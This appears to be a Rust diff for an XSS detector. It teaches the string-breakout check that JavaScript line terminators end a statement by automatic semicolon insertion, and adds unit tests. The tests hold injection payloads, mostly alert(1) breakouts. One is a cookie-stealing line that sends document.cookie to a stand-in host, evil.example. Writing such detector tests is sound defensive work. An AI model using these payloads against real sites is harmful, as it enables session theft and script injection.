@@ -532,6 +532,28 @@ fn skip_ws(b: &[u8], mut i: usize) -> usize {
     i
 }
 
+/// The end of the blanks at `i` (as [`skip_ws`], and JavaScript's other line terminators
+/// U+2028 and U+2029), and whether they hold a line terminator (LF, CR, U+2028, U+2029).
+fn skip_ws_and_line_terminators(b: &[u8], mut i: usize) -> (usize, bool) {
+    let mut line_break = false;
+    // (each round moves past at least one byte or stops)
+    while i < b.len() {
+        match b[i] {
+            b' ' | b'\t' | 0x0b | 0x0c => i += 1,
+            b'\n' | b'\r' => {
+                line_break = true;
+                i += 1;
+            }
+            0xe2 if b.get(i + 1) == Some(&0x80) && matches!(b.get(i + 2), Some(0xa8 | 0xa9)) => {
+                line_break = true;
+                i += 3;
+            }
+            _ => break,
+        }
+    }
+    (i, line_break)
+}
+
 /// A quote (optionally escaped with `\`) followed by an operator or statement separator and
 /// then a call or assignment through a script sink.
 ///
@@ -604,13 +626,20 @@ pub fn string_breakout(
             continue;
         }
         tried += 1;
-        let mut j = skip_ws(b, i);
+        let (mut j, line_break) = skip_ws_and_line_terminators(b, i);
         if postfix_on_literal(&b[i..j], &b[j..]) {
             continue;
         }
         // closing brackets and separators between the string and the new code
         let mut seps = 0;
-        let mut saw_sep = false;
+        // A line break after the closed string ends the statement by automatic semicolon
+        // insertion (`var q='';⏎alert(1)//'`: a string literal followed by a name is no
+        // expression, so the parser ends the statement at the line terminator and runs the
+        // next line), as a `;` does. JavaScript's line terminators are LF, CR, U+2028 and
+        // U+2029 (string literals may hold the last two since ES2019, so they reach code).
+        // A run of backticks at a line end is a Markdown code fence (```` ```\n ````), whose
+        // next line is the code shown, not a template closed by the value.
+        let mut saw_sep = line_break && !(k == 2 && i >= 2 && b[i - 2] == b'`');
         // `'(alert(1))//`, `` `[alert(1)]// ``, `'.concat(alert(1))//`: the closed literal is
         // called, indexed or has a method called, and the arguments or key run first
         if let Some(open) = literal_call_or_index(b, j) {
@@ -2974,6 +3003,31 @@ mod tests {
         assert!(string_breakout("'instanceof alert(1) instanceof'"));
         assert!(!string_breakout("'Tom' in alert mode (1) today"));
         assert!(!string_breakout("the 'inline' alert(1) example"));
+    }
+
+    #[test]
+    fn line_terminator_ends_the_statement_after_a_string() {
+        // automatic semicolon insertion: each line terminator ends the page's statement
+        assert!(string_breakout("'\nalert(1)//"));
+        assert!(string_breakout("\"\nalert(1)//"));
+        assert!(string_breakout("'\ralert(1)//"));
+        assert!(string_breakout("'\u{2028}alert(1)//"));
+        assert!(string_breakout("'\u{2029}alert(document.domain)//"));
+        assert!(string_breakout(
+            "x' \r\n  document.location='//evil.example/?'+document.cookie//"
+        ));
+        // look-alikes: an apostrophe inside a word, the second quote of a pair, a line that
+        // calls nothing, a name that is no sink
+        assert!(!string_breakout("It's late\nalert me tomorrow"));
+        assert!(!string_breakout("it's\nalert(1) in the docs"));
+        assert!(!string_breakout("x = 'abc'\nalert(x)"));
+        assert!(!string_breakout("He said '\nsee you (later)"));
+        assert!(!string_breakout("the students'\nresults (2024)"));
+        assert!(!string_breakout("'\nconsole.log(1)"));
+        assert!(string_breakout("`\nalert(1)//"));
+        assert!(!string_breakout(
+            "```\nconstructor(headers?: RawAxiosHeaders);\n```"
+        ));
     }
 
     #[test]
